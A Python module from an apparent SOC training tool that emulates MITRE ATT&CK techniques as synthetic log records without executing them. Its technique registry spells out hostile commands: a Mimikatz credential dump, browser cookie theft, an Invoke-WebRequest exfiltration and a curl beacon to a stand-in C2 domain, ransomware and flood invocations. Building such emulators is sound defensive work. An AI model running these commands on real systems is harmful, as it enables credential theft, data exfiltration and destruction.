"""Technique log synthesizer - emulates MITRE ATT&CK techniques as log records."""
import ipaddress
import logging
import re
from datetime import timedelta
from typing import Any, Dict, List, Optional

from soctrainer.errors import UnknownTechniqueError
from soctrainer.models import (
    Artifact,
    AtomicExecution,
    AtomicTest,
    AttackStage,
    EventKind,
    SimulatedEvent,
)
from soctrainer.services.context import SessionContext
from soctrainer.services.log_builders import build_event

logger = logging.getLogger(__name__)

_PLACEHOLDER = re.compile(r"#\{(\w+)\}")
_SHA256 = re.compile(r"SHA256=([A-Fa-f0-9]{64})")

C2_IP = "185.220.101.47"
C2_DOMAIN = "c2-malicious-domain.com"

PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"


def _test(technique_id: str, name: str, description: str, stage: AttackStage, executor: str,
          command: str, process_name: str, emits: List[EventKind],
          elevation_required: bool = False, **input_arguments: str) -> AtomicTest:
    return AtomicTest(
        id=f"{technique_id}-1",
        technique_id=technique_id,
        name=name,
        description=description,
        stage=stage,
        executor=executor,
        command=command,
        input_arguments=input_arguments,
        process_name=process_name,
        emits=emits,
        elevation_required=elevation_required,
    )


P, N, D, F, H = (
    EventKind.PROCESS_CREATE,
    EventKind.NETWORK_CONNECT,
    EventKind.DNS_QUERY,
    EventKind.FILE_CREATE,
    EventKind.HTTP_REQUEST,
)

# Technique registry, keyed by MITRE technique id
ATOMIC_TESTS: Dict[str, AtomicTest] = {t.technique_id: t for t in [
    _test("T1566.001", "Phishing: Spearphishing Attachment",
          "Opens a malicious macro document delivered by email",
          AttackStage.INITIAL_ACCESS, "command_prompt", "start #{file_path}",
          "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", [P, F, D],
          file_path="C:\\Users\\Public\\Downloads\\Invoice_0423.docm", c2_domain=C2_DOMAIN),
    _test("T1566.002", "Phishing: Spearphishing Link",
          "User follows a credential-harvesting link from an email",
          AttackStage.INITIAL_ACCESS, "command_prompt", "msedge.exe https://#{c2_domain}/login/office365",
          "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", [P, D, H],
          c2_domain=C2_DOMAIN, c2_ip=C2_IP),
    _test("T1195", "Supply Chain Compromise",
          "Installs a trojanized vendor update package",
          AttackStage.INITIAL_ACCESS, "command_prompt", "msiexec.exe /i #{installer_path} /qn",
          "C:\\Windows\\System32\\msiexec.exe", [P, F, D],
          installer_path="C:\\ProgramData\\VendorUpdate\\agent_update_4.2.1.msi", c2_domain=C2_DOMAIN),
    _test("T1078", "Valid Accounts",
          "Logs in with legitimate but abused credentials",
          AttackStage.INITIAL_ACCESS, "command_prompt", "runas.exe /user:#{username} /netonly cmd.exe",
          "C:\\Windows\\System32\\runas.exe", [P, N],
          username="CORP\\svc_backup", c2_ip=C2_IP),
    _test("T1059.001", "PowerShell Encoded Command",
          "Executes a base64 encoded PowerShell download cradle",
          AttackStage.EXECUTION, "powershell", "powershell.exe -nop -w hidden -enc #{encoded_command}",
          PS, [P, N],
          encoded_command="JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==", c2_ip=C2_IP),
    _test("T1204.002", "User Execution: Malicious File",
          "User launches a dropped executable",
          AttackStage.EXECUTION, "command_prompt", "start #{file_path}",
          "C:\\Users\\Public\\Downloads\\update_helper.exe", [P, F],
          file_path="C:\\Users\\Public\\Downloads\\update_helper.exe"),
    _test("T1547.001", "Registry Run Keys",
          "Adds a Run key pointing at the payload",
          AttackStage.PERSISTENCE, "command_prompt",
          "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v #{value_name} /t REG_SZ /d #{payload_path} /f",
          "C:\\Windows\\System32\\reg.exe", [P, F],
          value_name="OneDriveSync", payload_path="C:\\Users\\Public\\Libraries\\onedrivesync.exe"),
    _test("T1053.005", "Scheduled Task",
          "Creates a SYSTEM scheduled task that runs at logon",
          AttackStage.PERSISTENCE, "command_prompt",
          "schtasks.exe /create /tn \"#{task_name}\" /tr #{payload_path} /sc onlogon /ru SYSTEM",
          "C:\\Windows\\System32\\schtasks.exe", [P, F], True,
          task_name="MicrosoftEdgeUpdateCore", payload_path="C:\\ProgramData\\edgeupd.exe"),
    _test("T1070.004", "Indicator Removal: File Deletion",
          "Deletes the dropped tooling to cover tracks",
          AttackStage.DEFENSE_EVASION, "command_prompt", "cmd.exe /c del /f /q #{file_path}",
          CMD, [P],
          file_path="C:\\Windows\\Temp\\*.ps1"),
    _test("T1027", "Obfuscated Files or Information",
          "Decodes an obfuscated payload with certutil",
          AttackStage.DEFENSE_EVASION, "command_prompt", "certutil.exe -decode #{encoded_file} #{output_file}",
          "C:\\Windows\\System32\\certutil.exe", [P, F],
          encoded_file="C:\\Users\\Public\\blob.txt", output_file="C:\\Users\\Public\\stage2.dll"),
    _test("T1003", "OS Credential Dumping",
          "Dumps credentials from LSASS memory",
          AttackStage.CREDENTIAL_ACCESS, "command_prompt",
          "#{tool_path} privilege::debug sekurlsa::logonpasswords exit > #{output_file}",
          "C:\\Windows\\Temp\\mimikatz.exe", [P, F], True,
          tool_path="C:\\Windows\\Temp\\mimikatz.exe", output_file="C:\\Windows\\Temp\\lsass.txt"),
    _test("T1539", "Steal Web Session Cookie",
          "Copies the browser cookie store for session hijacking",
          AttackStage.CREDENTIAL_ACCESS, "command_prompt", "cmd.exe /c copy \"#{cookie_db}\" #{output_file}",
          CMD, [P, F],
          cookie_db="C:\\Users\\Public\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies",
          output_file="C:\\Users\\Public\\ck.db"),
    _test("T1083", "File and Directory Discovery",
          "Recursively lists user and share directories",
          AttackStage.DISCOVERY, "command_prompt", "cmd.exe /c dir /s /b #{search_path} > #{output_file}",
          CMD, [P, F],
          search_path="C:\\Users", output_file="C:\\Users\\Public\\dirs.txt"),
    _test("T1018", "Remote System Discovery",
          "Enumerates domain hosts",
          AttackStage.DISCOVERY, "command_prompt", "net.exe view /domain:#{domain_name}",
          "C:\\Windows\\System32\\net.exe", [P, N],
          domain_name="CORP", lateral_target="10.0.1.10"),
    _test("T1087", "Account Discovery",
          "Lists domain user accounts",
          AttackStage.DISCOVERY, "command_prompt", "net.exe user /domain",
          "C:\\Windows\\System32\\net.exe", [P]),
    _test("T1526", "Cloud Service Discovery",
          "Enumerates cloud resources with the provider CLI",
          AttackStage.DISCOVERY, "sh", "aws ec2 describe-instances --region #{region}",
          "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe", [P, H],
          region="us-east-1", c2_domain=C2_DOMAIN),
    _test("T1021.002", "SMB/Windows Admin Shares",
          "Mounts a remote admin share for lateral movement",
          AttackStage.LATERAL_MOVEMENT, "command_prompt",
          "net.exe use \\\\#{lateral_target}\\C$ /user:#{username} #{password}",
          "C:\\Windows\\System32\\net.exe", [P, N],
          lateral_target="10.0.1.50", username="CORP\\admin", password="Password123!"),
    _test("T1005", "Data from Local System",
          "Stages local documents into an archive",
          AttackStage.COLLECTION, "powershell",
          "Compress-Archive -Path #{source_path} -DestinationPath #{output_file}",
          PS, [P, F],
          source_path="C:\\Users\\*\\Documents", output_file="C:\\Users\\Public\\backup.zip"),
    _test("T1039", "Data from Network Shared Drive",
          "Copies files from a network share",
          AttackStage.COLLECTION, "command_prompt",
          "robocopy.exe \\\\#{lateral_target}\\#{share_name} #{output_dir} /E",
          "C:\\Windows\\System32\\Robocopy.exe", [P, N],
          lateral_target="10.0.1.20", share_name="Finance", output_dir="C:\\Users\\Public\\fin"),
    _test("T1114", "Email Collection",
          "Exports a mailbox to a PST file",
          AttackStage.COLLECTION, "powershell",
          "New-MailboxExportRequest -Mailbox #{mailbox} -FilePath #{output_file}",
          PS, [P, F],
          mailbox="ceo@corp.local", output_file="C:\\Users\\Public\\ceo.pst"),
    _test("T1530", "Data from Cloud Storage",
          "Syncs an exposed storage bucket to local disk",
          AttackStage.COLLECTION, "sh", "aws s3 sync s3://#{bucket_name} #{output_dir}",
          "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe", [P, N],
          bucket_name="corp-backups-prod", output_dir="C:\\Users\\Public\\s3", c2_ip=C2_IP),
    _test("T1071.001", "Web Protocols C2",
          "Beacons to the C2 server over HTTP",
          AttackStage.COMMAND_AND_CONTROL, "command_prompt", "curl.exe -s http://#{c2_domain}/beacon",
          "C:\\Windows\\System32\\curl.exe", [N, H, D],
          c2_domain=C2_DOMAIN, c2_ip=C2_IP),
    _test("T1048", "Exfiltration Over Alternative Protocol",
          "Posts staged data to an external endpoint",
          AttackStage.EXFILTRATION, "powershell",
          "Invoke-WebRequest -Uri https://#{c2_domain}/exfil -Method POST -InFile #{file_path}",
          PS, [P, H],
          c2_domain=C2_DOMAIN, c2_ip=C2_IP, file_path="C:\\Users\\Public\\backup.zip", uri="/exfil/upload"),
    _test("T1486", "Data Encrypted for Impact",
          "Encrypts user files and drops a ransom note",
          AttackStage.IMPACT, "command_prompt", "#{tool_path} -path C:\\Users -note #{output_file}",
          "C:\\ProgramData\\lb3.exe", [P, F], True,
          tool_path="C:\\ProgramData\\lb3.exe", output_file="C:\\Users\\Public\\Restore-My-Files.txt"),
    _test("T1489", "Service Stop",
          "Stops a business-critical service",
          AttackStage.IMPACT, "command_prompt", "sc.exe stop #{service_name}",
          "C:\\Windows\\System32\\sc.exe", [P], True,
          service_name="MSSQLSERVER"),
    _test("T1491", "Defacement",
          "Replaces the intranet landing page",
          AttackStage.IMPACT, "command_prompt", "cmd.exe /c copy /y #{image_path} #{output_file}",
          CMD, [P, F],
          image_path="C:\\Users\\Public\\deface.html", output_file="C:\\inetpub\\wwwroot\\index.html"),
    _test("T1498", "Network Denial of Service",
          "Floods an external service",
          AttackStage.IMPACT, "command_prompt", "#{tool_path} --udp-flood #{c2_ip}",
          "C:\\Users\\Public\\flood.exe", [P, N],
          tool_path="C:\\Users\\Public\\flood.exe", c2_ip=C2_IP),
]}

# Argument names whose value becomes the file written by a file_create record
_FILE_ARGUMENTS = ("output_file", "payload_path", "installer_path", "file_path")


def render_command(command: str, arguments: Dict[str, Any]) -> str:
    """Fill ``#{name}`` placeholders; unknown names are left as-is."""
    return _PLACEHOLDER.sub(lambda m: str(arguments.get(m.group(1), m.group(0))), command)


def _resolve_arguments(test: AtomicTest, context: Dict[str, Any]) -> Dict[str, Any]:
    arguments: Dict[str, Any] = dict(test.input_arguments)
    for key in arguments:
        if context.get(key):
            arguments[key] = context[key]
    return arguments


def _record_context(kind: EventKind, test: AtomicTest, arguments: Dict[str, Any],
                    command: str, base: Dict[str, Any]) -> Dict[str, Any]:
    record = dict(base)
    if kind == EventKind.PROCESS_CREATE:
        record["image"] = arguments.get("tool_path") or test.process_name
        record["command_line"] = command
    elif kind == EventKind.NETWORK_CONNECT:
        if arguments.get("lateral_target"):
            record["dest_ip"] = arguments["lateral_target"]
            record["dest_port"] = 445
        elif arguments.get("c2_ip"):
            record["dest_ip"] = arguments["c2_ip"]
        record["image"] = test.process_name
    elif kind in (EventKind.DNS_QUERY, EventKind.HTTP_REQUEST):
        if arguments.get("c2_domain"):
            record["domain"] = arguments["c2_domain"]
        if arguments.get("c2_ip"):
            record["dest_ip"] = arguments["c2_ip"]
        if arguments.get("uri"):
            record["uri"] = arguments["uri"]
    elif kind == EventKind.FILE_CREATE:
        for name in _FILE_ARGUMENTS:
            if arguments.get(name):
                record["filename"] = arguments[name]
                break
        record["image"] = test.process_name
    return record


def _artifacts_from_events(events: List[SimulatedEvent], command: str) -> List[Artifact]:
    found: List[Artifact] = []
    seen = set()

    def add(kind: str, value: Optional[str]):
        if value and (kind, value) not in seen:
            seen.add((kind, value))
            found.append(Artifact(type=kind, value=value))

    for event in events:
        details = event.details
        if event.kind == EventKind.DNS_QUERY:
            add("ip", details.get("QueryResults"))
            add("domain", details.get("QueryName"))
        elif event.network_context:
            add("ip", event.network_context.dest_ip)
        if event.kind == EventKind.HTTP_REQUEST:
            add("domain", details.get("host"))
        if event.process_tree:
            add("process", event.process_tree.process_name)
            add("user", event.process_tree.user)
        if event.kind == EventKind.FILE_CREATE:
            add("file", details.get("TargetFilename"))
        match = _SHA256.search(str(details.get("Hashes", "")))
        if match:
            add("hash", match.group(1))
    add("command", command)
    return found


def execute_atomic_test(technique_id: str, context: Optional[Dict[str, Any]], ctx: SessionContext) -> AtomicExecution:
    """Emulate one technique and return the records it produced.

    The context supplies host, user, timestamp and scenario attribution, and
    may override any of the registry's input arguments (c2_ip, c2_domain,
    lateral_target, username...). ``context["stage"]`` overrides the
    registry's target stage so records carry the chain stage.
    """
    test = ATOMIC_TESTS.get(technique_id)
    if test is None:
        raise UnknownTechniqueError(technique_id)

    context = dict(context or {})
    stage = AttackStage(context.get("stage") or test.stage)
    timestamp = context.get("timestamp") or ctx.clock.now()
    arguments = _resolve_arguments(test, context)
    command = render_command(test.command, arguments)

    base = {
        key: context[key]
        for key in ("hostname", "username", "source_ip", "scenario_id")
        if context.get(key)
    }
    base["technique_id"] = test.technique_id
    base["stage"] = stage
    base["correlation_key"] = f"{context.get('scenario_id') or ctx.session_id}:{test.technique_id}"

    events: List[SimulatedEvent] = []
    offset = 0
    for kind in test.emits:
        record = _record_context(kind, test, arguments, command, base)
        record["timestamp"] = timestamp + timedelta(seconds=offset)
        events.append(build_event(kind, True, record, ctx))
        offset += ctx.rng.randint(1, 5)

    event_ids = [e.id for e in events]
    for event in events:
        event.related_event_ids = [i for i in event_ids if i != event.id]

    logger.debug(f"[ATOMIC] {test.technique_id} ({test.name}) emitted {len(events)} records")
    return AtomicExecution(
        test_id=test.id,
        technique_id=test.technique_id,
        stage=stage,
        command=command,
        timestamp=timestamp,
        events=events,
        artifacts=_artifacts_from_events(events, command),
    )


def carry_forward_artifacts(context: Dict[str, Any], execution: AtomicExecution) -> Dict[str, Any]:
    """Make what a technique discovered available to the next one."""
    updated = dict(context)
    for artifact in execution.artifacts:
        if artifact.type == "user":
            updated["username"] = artifact.value
        elif artifact.type == "ip":
            try:
                address = ipaddress.ip_address(artifact.value)
            except ValueError:
                continue
            if address.is_private:
                updated["lateral_target"] = artifact.value
            else:
                updated["c2_ip"] = artifact.value
        elif artifact.type == "domain":
            updated["c2_domain"] = artifact.value
    return updated


def execute_attack_chain(techniques: List[str], context: Optional[Dict[str, Any]], ctx: SessionContext) -> List[AtomicExecution]:
    """Run techniques in order with a random 1-6 minute gap between them."""
    current = dict(context or {})
    current.setdefault("timestamp", ctx.clock.now())
    executions: List[AtomicExecution] = []
    for technique_id in techniques:
        execution = execute_atomic_test(technique_id, current, ctx)
        executions.append(execution)
        current = carry_forward_artifacts(current, execution)
        current["timestamp"] = execution.timestamp + timedelta(seconds=ctx.rng.uniform(60, 360))
        # Each technique falls back to its own registry stage
        current.pop("stage", None)
    logger.info(f"[ATOMIC] Executed chain of {len(executions)} techniques")
    return executions
